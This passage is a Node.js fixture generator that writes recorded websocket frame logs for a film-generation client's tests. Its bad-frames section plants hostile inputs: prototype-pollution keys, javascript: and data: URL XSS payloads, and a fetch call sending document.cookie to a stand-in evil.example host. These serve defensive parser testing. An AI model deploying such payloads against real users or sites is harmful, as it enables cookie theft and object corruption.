#!/usr/bin/env node
/**
 * Writes the recorded frame logs in test/fixtures/*.jsonl (one JSON frame per line).
 *
 * The logs are what a seq-numbering backend sends on one socket: every frame has an ISO
 * `timestamp` (strictly increasing within a log); project-scoped frames carry `project_id` and a
 * per-project `seq` starting at 1 after session.init; session, heartbeat and ack frames carry
 * neither. The output is deterministic: re-running the script rewrites identical files, and the
 * committed .jsonl files are the fixtures (tests never run this script).
 *
 *   node scripts/make-fixtures.mjs
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

const OUT = join(dirname(fileURLToPath(import.meta.url)), '..', 'test', 'fixtures');

/** 1x1 PNG, as a backend that inlines small previews would send it. */
const PNG_1X1 =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';

/** A log under construction: a clock, per-project seq counters and the lines. */
function recorder(startIso, stepMs = 250) {
  let now = Date.parse(startIso);
  const seqs = new Map();
  const lines = [];
  const tick = (ms = stepMs) => {
    now += ms;
    return new Date(now).toISOString();
  };
  return {
    /** A frame that belongs to no project stream (session, heartbeat, ack). */
    frame(type, fields = {}, gapMs) {
      const frame = { type, timestamp: tick(gapMs), ...fields };
      lines.push(JSON.stringify(frame));
      return frame;
    },
    /** A project-scoped event, numbered in its project's stream. */
    event(projectId, type, fields = {}, gapMs) {
      const seq = (seqs.get(projectId) ?? 0) + 1;
      seqs.set(projectId, seq);
      const frame = { type, timestamp: tick(gapMs), project_id: projectId, seq, ...fields };
      lines.push(JSON.stringify(frame));
      return frame;
    },
    /** Re-sends an earlier frame (same seq and fields, re-stamped when sent again): a duplicate. */
    resend(frame, gapMs) {
      lines.push(JSON.stringify({ ...frame, timestamp: tick(gapMs) }));
    },
    /** A line written as is (bad frames); it still gets a fresh timestamp when it has the slot. */
    raw(text) {
      lines.push(text.replaceAll('$TS', tick()));
    },
    /** Skips seq numbers for a project, as if those events were lost. */
    skip(projectId, count) {
      seqs.set(projectId, (seqs.get(projectId) ?? 0) + count);
    },
    resetSeqs() {
      seqs.clear();
    },
    text() {
      return lines.join('\n') + '\n';
    },
  };
}

function sessionInit(log, { session, instance, subscriptions, capabilities = ['ack', 'seq', 'replay'] }) {
  log.resetSeqs();
  return log.frame('session.init', {
    session_id: session,
    reconnect: false,
    instance_id: instance,
    capabilities,
    resume_token: `rt.${session}.v1`,
    subscriptions,
  });
}

/** Celery progress for a text-to-image run: load, encode, denoise k/N, decode, save. */
function denoiseRun(log, project, { task, node, totalSteps, every, take, stopAtStep, heartbeatAt }) {
  log.event(project, 'task.progress', { task_id: task, node_id: node, state: 'PENDING', progress: 0, message: 'Queued on gpu-worker-2' });
  log.event(project, 'task.progress', {
    task_id: task,
    node_id: node,
    state: 'STARTED',
    progress: 2,
    message: 'Loading model',
    step: 'Loading model sdxl-base-1.0',
  }, 900);
  log.event(project, 'task.progress', {
    task_id: task,
    node_id: node,
    state: 'PROGRESS',
    progress: 6,
    message: 'Encoding prompt',
    step: 'Encoding prompt',
  }, 1200);
  for (let k = every; k <= totalSteps; k += every) {
    if (stopAtStep !== undefined && k > stopAtStep) return;
    log.event(project, 'task.progress', {
      task_id: task,
      node_id: node,
      state: 'PROGRESS',
      progress: Math.round(8 + (k / totalSteps) * 82),
      message: `Denoising ${k}/${totalSteps}`,
      step: 'Denoising',
      current_step: k,
      total_steps: totalSteps,
    }, 700);
    if (heartbeatAt === k) log.frame('system.heartbeat', { server_time: 0, instance_id: 'backend-3f9c2a1b' });
  }
  log.event(project, 'task.progress', {
    task_id: task,
    node_id: node,
    state: 'PROGRESS',
    progress: 93,
    message: 'Decoding latents',
    step: 'Decoding latents (VAE)',
  }, 800);
  log.event(project, 'task.progress', {
    task_id: task,
    node_id: node,
    state: 'PROGRESS',
    progress: 97,
    message: `Saving take ${take}`,
    step: `Saving take ${take}`,
  }, 400);
}

function withServerTime(text) {
  // Heartbeats carry the server clock: fill it from the frame's own timestamp.
  return text
    .split('\n')
    .map((line) => {
      if (!line.includes('"system.heartbeat"') || !line.includes('"server_time":0')) return line;
      const frame = JSON.parse(line);
      frame.server_time = Date.parse(frame.timestamp);
      return JSON.stringify(frame);
    })
    .join('\n');
}

function take(project, scene, shot, n, extra = {}) {
  const base = `/media/${project}/${scene}/${shot}/take-${String(n).padStart(3, '0')}`;
  return {
    id: `take-${scene}-${shot}-${String(n).padStart(3, '0')}`,
    take_number: n,
    path: `${base}.png`,
    thumbnail: `${base}.thumb.webp`,
    created_at: extra.created_at,
    scene_id: scene,
    shot_id: shot,
    quality_preset: 'high',
    ...extra,
  };
}

// ---------------------------------------------------------------------------------------------
// generation-success: one text-to-image run from click to take, with its agent pipeline.

function generationSuccess() {
  const P = 'proj-aurora';
  const log = recorder('2026-03-02T14:05:00.000Z');
  sessionInit(log, { session: 'ws-1772460300000-k3j9x2m1q', instance: 'backend-3f9c2a1b', subscriptions: [P] });
  // Subscribe-era: the subscribe is acknowledged, then the project's recent events follow.
  log.frame('ack', { command_id: 'cmd-0a1b2c3d4e5f60718293a4b5', status: 'accepted' });
  log.event(P, 'project.updated', { data: { name: 'Aurora', structure_type: 'three-act', updated_by: 'dana' } });
  log.event(P, 'structure.changed', { changes: { added: ['scenes/S001/shots/P003.json'], modified: ['project.json'], deleted: [] } });
  log.frame('system.heartbeat', { server_time: 0, instance_id: 'backend-3f9c2a1b' });

  const node = 'node-t2i-7f3a';
  const task = 'celery-5b0e6c1a-2f4d-4c8e-9a7b-3d2e1f0a9c8b';
  log.frame('ack', { command_id: 'cmd-9f8e7d6c5b4a39281706f5e4', status: 'accepted' }, 1500);
  log.event(P, 'generation.started', {
    node_id: node,
    task_id: task,
    command_id: 'cmd-9f8e7d6c5b4a39281706f5e4',
    scene_id: 'S001',
    shot_id: 'P003',
    emotional_beat: 'inciting-incident',
  });
  log.event(P, 'node.state_changed', { node_id: node, status: 'generating', progress: 0, message: 'Queued', task_id: task, scene_id: 'S001', shot_id: 'P003', assigned_agent: 'Producer' });

  // Producer schedules the GPU, the Art Director and Cinematographer shape the prompt.
  log.event(P, 'agent.assigned', { agent_type: 'Producer', task_id: task, node_id: node, task_description: 'Schedule GPU and load checkpoint for S001/P003', estimated_duration: 4 });
  log.event(P, 'agent.progress', { agent_type: 'Producer', task_id: task, node_id: node, progress: 40, current_step: 'Reserving gpu-worker-2', vram_usage: 6.2 });
  log.event(P, 'agent.progress', { agent_type: 'Producer', task_id: task, node_id: node, progress: 100, current_step: 'Checkpoint resident', vram_usage: 9.8 });
  log.event(P, 'agent.completed', { agent_type: 'Producer', task_id: task, node_id: node, output: { worker: 'gpu-worker-2', vram_gb: 9.8 }, handoff_to: 'ArtDirector' });
  log.event(P, 'agent.handoff', { from_agent: 'Producer', to_agent: 'ArtDirector', task_id: task, node_id: node, notes: 'GPU reserved, 14 GB free' });
  log.event(P, 'agent.assigned', { agent_type: 'ArtDirector', task_id: task, node_id: node, task_description: 'Apply noir style and harbor location' });
  log.event(P, 'agent.progress', { agent_type: 'ArtDirector', task_id: task, node_id: node, progress: 60, current_step: 'Matching style references' });
  log.event(P, 'agent.completed', { agent_type: 'ArtDirector', task_id: task, node_id: node, output: { style_refs: ['style-noir-01'] }, handoff_to: 'Cinematographer' });
  log.event(P, 'agent.handoff', { from_agent: 'ArtDirector', to_agent: 'Cinematographer', task_id: task, node_id: node, notes: 'Style locked: noir, sodium lights' });
  log.event(P, 'agent.assigned', { agent_type: 'Cinematographer', task_id: task, node_id: node, task_description: 'Frame P003: low-angle medium shot' });
  log.event(P, 'agent.progress', { agent_type: 'Cinematographer', task_id: task, node_id: node, progress: 50, current_step: 'Choosing lens' });
  log.event(P, 'agent.completed', { agent_type: 'Cinematographer', task_id: task, node_id: node, output: { lens: '35mm', angle: 'low' } });
  log.event(P, 'prompt.composite', {
    node_id: node,
    task_id: task,
    composite_prompt: {
      base_prompt: 'Mara waits on the harbor wall at night, rain on the cobbles',
      character_refs: ['char-mara'],
      style_refs: ['style-noir-01'],
      location_ref: 'loc-harbor',
      emotional_keywords: ['dread', 'anticipation'],
      agent_notes: {
        ArtDirector: 'Sodium-vapour orange against teal shadows',
        Cinematographer: '35mm, low angle, medium shot',
      },
    },
  });

  denoiseRun(log, P, { task, node, totalSteps: 30, every: 5, take: 3, heartbeatAt: 15 });
  log.event(P, 'node.state_changed', { node_id: node, status: 'generating', progress: 97, message: 'Saving take 3', task_id: task });
  log.event(P, 'task.progress', {
    task_id: task,
    node_id: node,
    state: 'SUCCESS',
    progress: 100,
    message: 'Take 3 saved',
    result: {
      output_path: `/media/${P}/S001/P003/take-003.png`,
      take_id: 'take-S001-P003-003',
      seed: 1234567,
      steps: 30,
      cfg_scale: 7,
      duration_s: 23.4,
    },
  }, 300);
  const takes = [
    take(P, 'S001', 'P003', 1, { created_at: '2026-03-02T13:41:12.000Z', emotional_beat: 'inciting-incident' }),
    take(P, 'S001', 'P003', 2, { created_at: '2026-03-02T13:52:40.000Z', emotional_beat: 'inciting-incident' }),
    take(P, 'S001', 'P003', 3, {
      created_at: '2026-03-02T14:05:31.000Z',
      emotional_beat: 'inciting-incident',
      metadata: { seed: 1234567, steps: 30, cfg_scale: 7, sampler: 'dpmpp_2m' },
      composite_prompt: {
        base_prompt: 'Mara waits on the harbor wall at night, rain on the cobbles',
        character_refs: ['char-mara'],
        style_refs: ['style-noir-01'],
        location_ref: 'loc-harbor',
        emotional_keywords: ['dread', 'anticipation'],
      },
    }),
  ];
  log.event(P, 'generation.completed', {
    node_id: node,
    task_id: task,
    output_path: `/media/${P}/S001/P003/take-003.png`,
    thumbnail: PNG_1X1,
    takes,
  });
  log.event(P, 'node.state_changed', {
    node_id: node,
    status: 'completed',
    progress: 100,
    message: 'Generation complete',
    output_path: `/media/${P}/S001/P003/take-003.png`,
    thumbnail: `/media/${P}/S001/P003/take-003.thumb.webp`,
    takes,
    current_take: 3,
    task_id: task,
  });
  log.frame('system.heartbeat', { server_time: 0, instance_id: 'backend-3f9c2a1b' }, 5000);
  return withServerTime(log.text());
}

// ---------------------------------------------------------------------------------------------
// generation-failure: the GPU runs out of memory mid-denoise.

function generationFailure() {
  const P = 'proj-aurora';
  const log = recorder('2026-03-02T15:10:00.000Z');
  sessionInit(log, { session: 'ws-1772464200000-p8v2n5c7d', instance: 'backend-3f9c2a1b', subscriptions: [P] });
  const node = 'node-t2i-c41d';
  const task = 'celery-8d1f2e3a-4b5c-4d6e-8f7a-9b0c1d2e3f4a';
  log.event(P, 'generation.started', { node_id: node, task_id: task, command_id: 'cmd-4d3c2b1a0f9e8d7c6b5a4938', scene_id: 'S002', shot_id: 'P007' });
  log.event(P, 'node.state_changed', { node_id: node, status: 'generating', progress: 0, message: 'Queued', task_id: task });
  log.event(P, 'agent.assigned', { agent_type: 'Producer', task_id: task, node_id: node, task_description: 'Schedule GPU for a 2048x1152 high-quality render' });
  log.event(P, 'agent.progress', { agent_type: 'Producer', task_id: task, node_id: node, progress: 80, current_step: 'Checkpoint resident', vram_usage: 21.7 });
  log.event(P, 'agent.completed', { agent_type: 'Producer', task_id: task, node_id: node });
  denoiseRun(log, P, { task, node, totalSteps: 30, every: 5, take: 1, stopAtStep: 10, heartbeatAt: 5 });
  log.event(P, 'agent.progress', { agent_type: 'Producer', task_id: 'celery-vram-watch-01', progress: 10, current_step: 'VRAM pressure', vram_usage: 23.6 });
  log.event(P, 'task.progress', {
    task_id: task,
    node_id: node,
    state: 'FAILURE',
    progress: 41,
    message: 'CUDA out of memory at denoising step 14/30',
    result: {
      exc_type: 'OutOfMemoryError',
      exc_message: ['CUDA out of memory. Tried to allocate 2.00 GiB (GPU 0; 23.65 GiB total capacity)'],
      exc_module: 'torch.cuda',
    },
  }, 2100);
  log.event(P, 'generation.error', {
    node_id: node,
    task_id: task,
    error: 'CUDA out of memory. Tried to allocate 2.00 GiB',
    message: 'Generation failed at denoising step 14/30: try the standard quality preset',
  });
  log.event(P, 'node.state_changed', {
    node_id: node,
    status: 'error',
    error: 'CUDA out of memory. Tried to allocate 2.00 GiB',
    message: 'Generation failed',
    task_id: task,
  });
  log.frame('system.heartbeat', { server_time: 0, instance_id: 'backend-3f9c2a1b' }, 5000);
  return withServerTime(log.text());
}

// ---------------------------------------------------------------------------------------------
// generation-cancel: the user cancels mid-denoise; the worker's last update races the revoke.

function generationCancel() {
  const P = 'proj-aurora';
  const log = recorder('2026-03-02T16:20:00.000Z');
  sessionInit(log, { session: 'ws-1772468400000-b6t1r0w9z', instance: 'backend-3f9c2a1b', subscriptions: [P] });
  const node = 'node-t2i-9e07';
  const task = 'celery-1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d';
  log.event(P, 'generation.started', { node_id: node, task_id: task, command_id: 'cmd-aa11bb22cc33dd44ee55ff66', scene_id: 'S003', shot_id: 'P012', emotional_beat: 'all-is-lost' });
  log.event(P, 'node.state_changed', { node_id: node, status: 'generating', progress: 0, message: 'Queued', task_id: task });
  denoiseRun(log, P, { task, node, totalSteps: 40, every: 8, take: 1, stopAtStep: 16, heartbeatAt: 8 });
  // cancel_generation was sent; the backend acknowledges and revokes the task.
  log.frame('ack', { command_id: 'cmd-0f1e2d3c4b5a69788796a5b4', status: 'accepted' }, 600);
  log.event(P, 'task.progress', { task_id: task, node_id: node, state: 'REVOKED', message: 'Cancelled by user', result: { reason: 'revoked', terminated: true, signal: 'SIGTERM' } });
  log.event(P, 'node.state_changed', { node_id: node, status: 'idle', progress: 0, message: 'Cancelled', task_id: task });
  // The worker had already published one more step before it received SIGTERM.
  log.event(P, 'task.progress', {
    task_id: task,
    node_id: node,
    state: 'PROGRESS',
    progress: 42,
    message: 'Denoising 20/40',
    step: 'Denoising',
    current_step: 20,
    total_steps: 40,
  }, 120);
  log.frame('system.heartbeat', { server_time: 0, instance_id: 'backend-3f9c2a1b' }, 5000);
  return withServerTime(log.text());
}

// ---------------------------------------------------------------------------------------------
// agent-pipeline: all seven agents in hand-off order on one shot.

const AGENTS = [
  ['Producer', 'Budget the shot and schedule GPU time', ['Reading shot list', 'Estimating GPU time', 'Reserving gpu-worker-1']],
  ['Screenwriter', 'Tighten the dialogue for S004', ['Reading scene S004', 'Rewriting the confrontation', 'Locking pages']],
  ['CastingDirector', 'Pick character references for Mara and Ilya', ['Searching character assets', 'Matching wardrobe']],
  ['ArtDirector', 'Set the production design for the lighthouse', ['Choosing palette', 'Selecting style references']],
  ['Cinematographer', 'Plan coverage for P014', ['Blocking the scene', 'Choosing lenses', 'Setting the light']],
  ['SoundDesigner', 'Design the storm ambience', ['Layering rain and wind', 'Placing foghorn']],
  ['Editor', 'Assemble the rough cut of S004', ['Ordering takes', 'Trimming', 'Exporting the EDL']],
];

function agentPipeline() {
  const P = 'proj-aurora';
  const log = recorder('2026-03-03T09:00:00.000Z', 400);
  sessionInit(log, { session: 'ws-1772528400000-h4q7s2e8f', instance: 'backend-3f9c2a1b', subscriptions: [P] });
  const task = 'pipeline-S004-P014';
  const node = 'node-shot-P014';
  AGENTS.forEach(([agent, description, steps], index) => {
    log.event(P, 'agent.assigned', { agent_type: agent, task_id: task, node_id: node, task_description: description, estimated_duration: 20 + index * 5 });
    steps.forEach((step, i) => {
      const progress = Math.round(((i + 1) / (steps.length + 1)) * 100);
      const fields = { agent_type: agent, task_id: task, node_id: node, progress, current_step: step };
      if (agent === 'Producer') fields.vram_usage = [2.1, 7.5, 11.9][i];
      log.event(P, 'agent.progress', fields, 1500);
    });
    const next = AGENTS[index + 1]?.[0];
    log.event(P, 'agent.completed', {
      agent_type: agent,
      task_id: task,
      node_id: node,
      output: { summary: `${agent} done`, notes_count: steps.length },
      ...(next ? { handoff_to: next } : {}),
    }, 900);
    if (next) {
      log.event(P, 'agent.handoff', { from_agent: agent, to_agent: next, task_id: task, node_id: node, notes: `${agent} hands S004/P014 to ${next}` });
    }
    if (index === 3) log.frame('system.heartbeat', { server_time: 0, instance_id: 'backend-3f9c2a1b' });
  });
  log.event(P, 'prompt.composite', {
    node_id: node,
    task_id: task,
    composite_prompt: {
      base_prompt: 'Mara confronts Ilya in the lighthouse lamp room during the storm',
      character_refs: ['char-mara', 'char-ilya'],
      style_refs: ['style-noir-01', 'style-storm-02'],
      location_ref: 'loc-lighthouse',
      emotional_keywords: ['betrayal', 'fury'],
      agent_notes: Object.fromEntries(AGENTS.map(([agent]) => [agent, `${agent} notes for P014`])),
    },
  });
  log.frame('system.heartbeat', { server_time: 0, instance_id: 'backend-3f9c2a1b' }, 5000);
  return withServerTime(log.text());
}

// ---------------------------------------------------------------------------------------------
// narrative-progression: chapters, scenes and shots, with beats driving generations.

function narrativeProgression() {
  const P = 'proj-aurora';
  const log = recorder('2026-03-03T11:00:00.000Z', 500);
  sessionInit(log, { session: 'ws-1772535600000-m1x5c9v3b', instance: 'backend-3f9c2a1b', subscriptions: [P] });
  log.event(P, 'narrative.progress', {
    structure_type: 'three-act',
    current_chapter: 1,
    total_chapters: 3,
    current_scene: 'S001',
    total_scenes: 12,
    current_shot: 'P001',
    total_shots: 48,
  });
  log.event(P, 'narrative.beat', { beat_name: 'opening-image', scene_id: 'S001', shot_id: 'P001', chapter: 1, keywords: ['stillness', 'fog'] });

  // A generation for the opening image, linked to the beat by generation.started.
  const n1 = 'node-t2i-0001';
  const t1 = 'celery-0001-opening';
  log.event(P, 'generation.started', { node_id: n1, task_id: t1, scene_id: 'S001', shot_id: 'P001', emotional_beat: 'opening-image' });
  log.event(P, 'task.progress', { task_id: t1, node_id: n1, state: 'STARTED', progress: 3, step: 'Loading model sdxl-base-1.0' });
  log.event(P, 'task.progress', { task_id: t1, node_id: n1, state: 'PROGRESS', progress: 50, step: 'Denoising', current_step: 15, total_steps: 30 });
  log.event(P, 'task.progress', { task_id: t1, node_id: n1, state: 'SUCCESS', progress: 100, result: { take_id: 'take-S001-P001-001' } });
  log.event(P, 'generation.completed', {
    node_id: n1,
    task_id: t1,
    output_path: `/media/${P}/S001/P001/take-001.png`,
    thumbnail: `/media/${P}/S001/P001/take-001.thumb.webp`,
    takes: [take(P, 'S001', 'P001', 1, { created_at: '2026-03-03T11:00:04.000Z', emotional_beat: 'opening-image' })],
  });

  log.event(P, 'narrative.progress', { current_scene: 'S002', current_shot: 'P004' }, 3000);
  log.event(P, 'narrative.beat', { beat_name: 'inciting-incident', scene_id: 'S002', shot_id: 'P004', chapter: 1, keywords: ['letter', 'dread'], node_id: 'node-t2i-0002', task_id: 'celery-0002-inciting' });
  log.frame('system.heartbeat', { server_time: 0, instance_id: 'backend-3f9c2a1b' });
  // The backend re-announces the beat (a second client reached it too): it must appear once.
  log.event(P, 'narrative.beat', { beat_name: 'inciting-incident', scene_id: 'S002', shot_id: 'P004', chapter: 1, keywords: ['letter', 'dread'] });

  // The second generation names its beat in generation.started; its take does not carry one.
  const n2 = 'node-t2i-0002';
  const t2 = 'celery-0002-inciting';
  log.event(P, 'generation.started', { node_id: n2, task_id: t2, scene_id: 'S002', shot_id: 'P004', emotional_beat: 'inciting-incident' });
  log.event(P, 'task.progress', { task_id: t2, node_id: n2, state: 'PROGRESS', progress: 60, step: 'Denoising', current_step: 18, total_steps: 30 });
  log.event(P, 'task.progress', { task_id: t2, node_id: n2, state: 'SUCCESS', progress: 100 });
  log.event(P, 'generation.completed', {
    node_id: n2,
    task_id: t2,
    output_path: `/media/${P}/S002/P004/take-001.png`,
    takes: [take(P, 'S002', 'P004', 1, { created_at: '2026-03-03T11:00:12.000Z' })],
  });

  log.event(P, 'narrative.progress', { current_chapter: 2, current_scene: 'S006', current_shot: 'P021' }, 3000);
  log.event(P, 'narrative.beat', { beat_name: 'midpoint', scene_id: 'S006', shot_id: 'P021', chapter: 2, keywords: ['reversal', 'storm'] });

  // A third generation without a beat in generation.started: its take carries the beat.
  const n3 = 'node-t2i-0003';
  const t3 = 'celery-0003-midpoint';
  log.event(P, 'generation.started', { node_id: n3, task_id: t3, scene_id: 'S006', shot_id: 'P021' });
  log.event(P, 'task.progress', { task_id: t3, node_id: n3, state: 'SUCCESS', progress: 100 });
  log.event(P, 'generation.completed', {
    node_id: n3,
    task_id: t3,
    output_path: `/media/${P}/S006/P021/take-001.png`,
    takes: [take(P, 'S006', 'P021', 1, { created_at: '2026-03-03T11:00:20.000Z', emotional_beat: 'midpoint' })],
  });
  log.event(P, 'narrative.progress', { current_chapter: 2, current_scene: 'S007', current_shot: 'P025' });
  log.frame('system.heartbeat', { server_time: 0, instance_id: 'backend-3f9c2a1b' }, 5000);
  return withServerTime(log.text());
}

// ---------------------------------------------------------------------------------------------
// bad-frames: valid traffic interleaved with everything a hostile or buggy peer might send.

function badFrames() {
  const P = 'proj-aurora';
  const log = recorder('2026-03-04T08:00:00.000Z', 200);
  sessionInit(log, { session: 'ws-1772611200000-z0y9x8w7v', instance: 'backend-3f9c2a1b', subscriptions: [P] });
  const node = 'node-t2i-bad1';
  const task = 'celery-bad1-0000';
  // not_json: a truncated line.
  log.raw('{"type":"task.progress","timestamp":"$TS","task_id":"celery-bad1-0000","state":"PROGR');
  // not_object: a JSON array, and a bare null.
  log.raw('[{"type":"system.heartbeat","timestamp":"$TS"}]');
  log.raw('null');
  // missing_type.
  log.raw(`{"timestamp":"$TS","task_id":"${task}","state":"PROGRESS","progress":10}`);
  // invalid_type: a number, and a type that is not a dotted lower-case name.
  log.raw('{"type":42,"timestamp":"$TS"}');
  log.raw('{"type":"__proto__","timestamp":"$TS"}');
  // unknown types (a newer backend): kept out of the tables, counted by name.
  log.raw(`{"type":"render.preview","timestamp":"$TS","project_id":"${P}","node_id":"${node}","frame":3,"url":"/media/preview/3.jpg"}`);
  log.raw('{"type":"constructor","timestamp":"$TS"}');

  const started = log.event(P, 'generation.started', { node_id: node, task_id: task, scene_id: 'S009', shot_id: 'P030' });
  log.event(P, 'task.progress', { task_id: task, node_id: node, state: 'STARTED', progress: 2, step: 'Loading model sdxl-base-1.0' });
  // invalid_fields: wrong field types and values.
  log.raw(`{"type":"task.progress","timestamp":"$TS","task_id":"${task}","node_id":"${node}","state":"PROGRESS","progress":"fifty"}`);
  log.raw(`{"type":"task.progress","timestamp":"$TS","task_id":"${task}","node_id":"${node}","state":"RUNNING","progress":30}`);
  log.raw(`{"type":"node.state_changed","timestamp":"$TS","node_id":"${node}","status":"exploded"}`);
  log.raw(`{"type":"agent.progress","timestamp":"$TS","agent_type":"Gaffer","task_id":"${task}","progress":10}`);
  log.raw(`{"type":"generation.started","timestamp":"$TS","node_id":["${node}"],"task_id":"${task}"}`);
  // Reserved names as ids: refused, so they never become table keys.
  log.raw('{"type":"node.state_changed","timestamp":"$TS","node_id":"__proto__","status":"generating","progress":5}');
  log.raw('{"type":"task.progress","timestamp":"$TS","task_id":"constructor","state":"PROGRESS","progress":5}');
  log.raw('{"type":"task.progress","timestamp":"$TS","task_id":"toString","node_id":"hasOwnProperty","state":"STARTED"}');
  log.raw('{"type":"narrative.beat","timestamp":"$TS","beat_name":"__proto__","scene_id":"S009"}');
  log.raw('{"type":"generation.completed","timestamp":"$TS","node_id":"node-t2i-bad2","task_id":"celery-bad2","output_path":"/media/x.png","takes":[{"id":"constructor","take_number":1,"path":"/media/x.png","created_at":"2026-03-04T08:00:00Z"}]}');
  log.raw(`{"type":"project.updated","timestamp":"$TS","project_id":"__proto__","data":{"name":"x"}}`);
  // A __proto__ key (not value) at the top level and inside free-form JSON: dropped / stripped.
  log.raw(
    `{"type":"agent.completed","timestamp":"$TS","agent_type":"Editor","task_id":"celery-proto-1","__proto__":{"polluted":"top"},"output":{"cut":"v1","__proto__":{"polluted":"nested"},"clips":[{"__proto__":{"polluted":"deep"}}]}}`,
  );

  const progress40 = log.event(P, 'task.progress', { task_id: task, node_id: node, state: 'PROGRESS', progress: 40, step: 'Denoising', current_step: 12, total_steps: 30 });
  // The same frame again (a resend after a reconnect): dropped by seq.
  log.resend(progress40);
  log.event(P, 'task.progress', { task_id: task, node_id: node, state: 'PROGRESS', progress: 55, step: 'Denoising', current_step: 17, total_steps: 30 });
  log.resend(started);
  // A result nested far deeper than any real result: refused (it would cost stack later).
  let nested = { leaf: true };
  for (let i = 0; i < 40; i++) nested = { level: nested };
  // Its seq is consumed by the refused frame: the client sees a hole there.
  log.event(P, 'task.progress', { task_id: task, node_id: node, state: 'SUCCESS', progress: 100, result: nested });
  log.event(P, 'task.progress', { task_id: task, node_id: node, state: 'SUCCESS', progress: 100, message: 'Take 1 saved', result: { take_id: 'take-S009-P030-001', seed: 99 } });
  // Unsafe URLs: dropped before state; the safe ones beside them are kept.
  log.event(P, 'generation.completed', {
    node_id: node,
    task_id: task,
    output_path: '/media/proj-aurora/S009/P030/take-001.png',
    thumbnail: 'javascript:alert(document.cookie)',
    takes: [
      {
        id: 'take-S009-P030-001',
        take_number: 1,
        path: '/media/proj-aurora/S009/P030/take-001.png',
        thumbnail: '/media/proj-aurora/S009/P030/take-001.thumb.webp',
        created_at: '2026-03-04T08:00:05.000Z',
        scene_id: 'S009',
        shot_id: 'P030',
      },
      {
        id: 'take-S009-P030-002',
        take_number: 2,
        path: 'JavaScript:fetch("//evil.example/"+document.cookie)',
        thumbnail: 'java\tscript:alert(1)',
        created_at: '2026-03-04T08:00:06.000Z',
        scene_id: 'S009',
        shot_id: 'P030',
      },
    ],
  });
  // A late PROGRESS after SUCCESS (Celery's last update overtaken by the result).
  log.event(P, 'task.progress', { task_id: task, node_id: node, state: 'PROGRESS', progress: 80, step: 'Denoising', current_step: 24, total_steps: 30 });
  log.event(P, 'node.state_changed', {
    node_id: node,
    status: 'completed',
    task_id: task,
    output_path: 'javascript:alert(2)',
    thumbnail: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgzKTwvc2NyaXB0Pg==',
  });
  // A stale frame from before the hole (seq 4 after seq 9): dropped.
  log.raw(JSON.stringify({ ...progress40, timestamp: '$TS', progress: 20 }));
  log.frame('system.heartbeat', { server_time: 0, instance_id: 'backend-3f9c2a1b' });
  return withServerTime(log.text());
}

// ---------------------------------------------------------------------------------------------
// distributed-events: Redis pub/sub fan-out from three projects on one socket.

function distributedEvents() {
  const A = 'proj-aurora';
  const H = 'proj-harbor-lights';
  const N = 'proj-nightfall';
  const log = recorder('2026-03-05T10:00:00.000Z', 300);
  sessionInit(log, { session: 'ws-1772704800000-c2d4f6h8j', instance: 'backend-3f9c2a1b', subscriptions: [A, H] });
  log.event(N, 'project.created', { data: { name: 'Nightfall', structure_type: 'hero-journey', owner: 'sam' } });
  log.event(A, 'file.uploaded', { file: { name: 'mara-ref-03.png', path: 'assets/characters/mara/mara-ref-03.png', size: 1843200, asset_type: 'character' } });
  log.event(A, 'process.started', { process_id: 'proc-thumbs-a1', progress: 0, message: 'Generating thumbnails for 12 assets' });
  log.event(H, 'project.updated', { data: { name: 'Harbor Lights', logline: 'A keeper and a smuggler share one storm' } });
  log.event(A, 'process.progress', { process_id: 'proc-thumbs-a1', progress: 50, message: '6 of 12' });
  log.event(H, 'structure.changed', { changes: { added: ['scenes/S003.md'], modified: ['outline.md'], deleted: [] } });
  log.event(A, 'structure.changed', { changes: { added: ['assets/characters/mara/mara-ref-03.png'], modified: [], deleted: [] } });
  log.event(H, 'git.commit', { ref: '9c1e4b7', message: 'Add scene 3: the smuggler arrives', author: 'lee' });
  log.frame('system.heartbeat', { server_time: 0, instance_id: 'backend-3f9c2a1b' });
  log.event(A, 'process.progress', { process_id: 'proc-thumbs-a1', progress: 100, message: '12 of 12' });
  log.event(A, 'process.completed', { process_id: 'proc-thumbs-a1', progress: 100, message: 'Thumbnails ready' });
  log.event(H, 'git.push', { ref: 'refs/heads/main', message: '9c1e4b7..a04f2d1', author: 'lee' });
  log.event(N, 'process.started', { process_id: 'proc-import-n1', progress: 0, message: 'Importing screenplay.fdx' });
  log.event(A, 'file.deleted', { file: { name: 'mara-ref-01.png', path: 'assets/characters/mara/mara-ref-01.png', size: 1720320, asset_type: 'character' } });
  log.event(N, 'process.progress', { process_id: 'proc-import-n1', progress: 35, message: 'Parsed 40 of 114 scenes' });
  log.event(A, 'git.commit', { ref: 'e5d6f7a', message: 'Swap Mara reference', author: 'dana' });
  // Two Harbor Lights events were lost in the fan-out (seq 5 and 6): the client records a gap.
  log.skip(H, 2);
  log.event(H, 'git.pull', { ref: 'refs/heads/main', message: 'Fast-forward to b71c0e2', author: 'lee' });
  log.event(A, 'git.push', { ref: 'refs/heads/main', message: 'e5d6f7a pushed', author: 'dana' });
  log.event(N, 'project.deleted', { data: { reason: 'archived by owner' } });
  log.event(H, 'structure.changed', { changes: { added: [], modified: ['scenes/S003.md'], deleted: ['scenes/draft-S003.md'] } });
  log.frame('system.heartbeat', { server_time: 0, instance_id: 'backend-3f9c2a1b' }, 5000);
  return withServerTime(log.text());
}

// ---------------------------------------------------------------------------------------------
// Celery semantics on one task id (docs/ARCHITECTURE.md, "Celery attempts").

/** Steps 1..k of an attempt with `total` steps, on one task id. */
function celerySteps(log, project, { task, node, total, from = 1, to }) {
  for (let k = from; k <= to; k++) {
    log.event(project, 'task.progress', {
      task_id: task,
      node_id: node,
      state: 'PROGRESS',
      progress: Math.round((k / total) * 90),
      message: `Denoising ${k}/${total}`,
      step: 'Denoising',
      current_step: k,
      total_steps: total,
    }, 600);
  }
}

/** celery-retry: self.retry() at step 3 of 6; the retried run starts again from step 0. */
function celeryRetry() {
  const P = 'proj-aurora';
  const log = recorder('2026-03-03T09:00:00.000Z');
  sessionInit(log, { session: 'ws-1772528400000-r3t7y1u9i', instance: 'backend-3f9c2a1b', subscriptions: [P] });
  const node = 'node-t2i-r7e1';
